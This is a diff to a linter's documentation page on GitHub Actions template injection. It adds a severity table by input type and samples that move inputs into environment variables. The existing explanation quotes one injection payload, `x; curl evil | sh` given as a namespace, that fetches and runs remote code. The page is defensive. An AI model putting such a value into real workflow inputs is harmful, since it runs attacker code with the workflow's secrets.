@@ -4,7 +4,16 @@ export const templateInjection: RulePage = {
   id: "template-injection",
   why: `\`\${{ … }}\` is pasted into the script before the shell reads it. Who may run a skill chooses its inputs, without any right to the repository: \`x; curl evil | sh\` as a namespace would run with the secrets of the skill. An environment variable is only ever text.
 
-Findings are graded by what the input can hold: a string is an error; a number or boolean a warning, because infraskill checks their type before it dispatches, but the workflow does not; a choice a remark, because its options are in the reviewed file. \`github.event.inputs.*\`, branch names, \`\${{ env.X }}\` where X holds an input, step outputs made from inputs, and anything wrapped in \`format\`, \`fromJSON\`, \`join\` or \`||\` count as what is in them. Of what other actions are given by \`with\`, only code is read: their own handling of it is not followed. actionlint knows titles, bodies and branch names of issues and pull requests, and takes no input for untrusted.`,
+Findings are graded by what the input can hold:
+
+| declared | finding | because |
+| --- | --- | --- |
+| \`string\`, \`environment\`, or no type | error | it can hold any text; GitHub does not look whether an environment of that name exists |
+| \`number\` | warning | infraskill refuses what is no number before it dispatches; whether GitHub does is not documented |
+| \`boolean\` | remark | GitHub refuses every value but \`true\` and \`false\` |
+| \`choice\` | remark | GitHub refuses every value but the options, and those stand in the reviewed file |
+
+\`github.event.inputs.*\` is the text of the event and counts as a string, whatever is declared: write \`inputs.*\`, which has the declared type. Branch names count as strings as well. \`\${{ env.X }}\` where X holds an input, step outputs made from inputs, and anything wrapped in \`format\`, \`fromJSON\`, \`join\` or \`||\` count as what is in them. [nested-code](nested-code.md), [runner-files](runner-files.md) and [obeyed-variables](obeyed-variables.md) grade their findings the same way. Of what other actions are given by \`with\`, only code is read: their own handling of it is not followed. actionlint knows titles, bodies and branch names of issues and pull requests, and takes no input for untrusted.`,
   allow: `An error cannot be allowed. In a script, hand the value over through \`env\`; for an image, the options of a container or a \`shell\`, write a fixed value or make the input a choice. Warnings and remarks do not block.`,
   samples: [
     {
@@ -52,6 +61,31 @@ Findings are graded by what the input can hold: a string is an error; a number o
           kubectl --namespace "$NAMESPACE" scale deployment --replicas "$REPLICAS"
 `,
       severity: "warning",
+      fixed: true,
+    },
+    {
+      title: "A boolean",
+      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
+`,
+      wrong: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
+          kubectl --namespace "$NAMESPACE" delete pods --all --force=\${{ inputs.force }}
+`,
+      right: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
+          kubectl --namespace "$NAMESPACE" delete pods --all --force="$FORCE"
+`,
+      severity: "info",
+      fixed: true,
+    },
+    {
+      title: "A boolean by the event, where it is text",
+      at: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
+`,
+      wrong: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
+          kubectl --namespace "$NAMESPACE" delete pods --all --force=\${{ github.event.inputs.force }}
+`,
+      right: `          kubectl --namespace "$NAMESPACE" rollout restart deployment
+          kubectl --namespace "$NAMESPACE" delete pods --all --force="$FORCE"
+`,
       fixed: true,
     },
     {
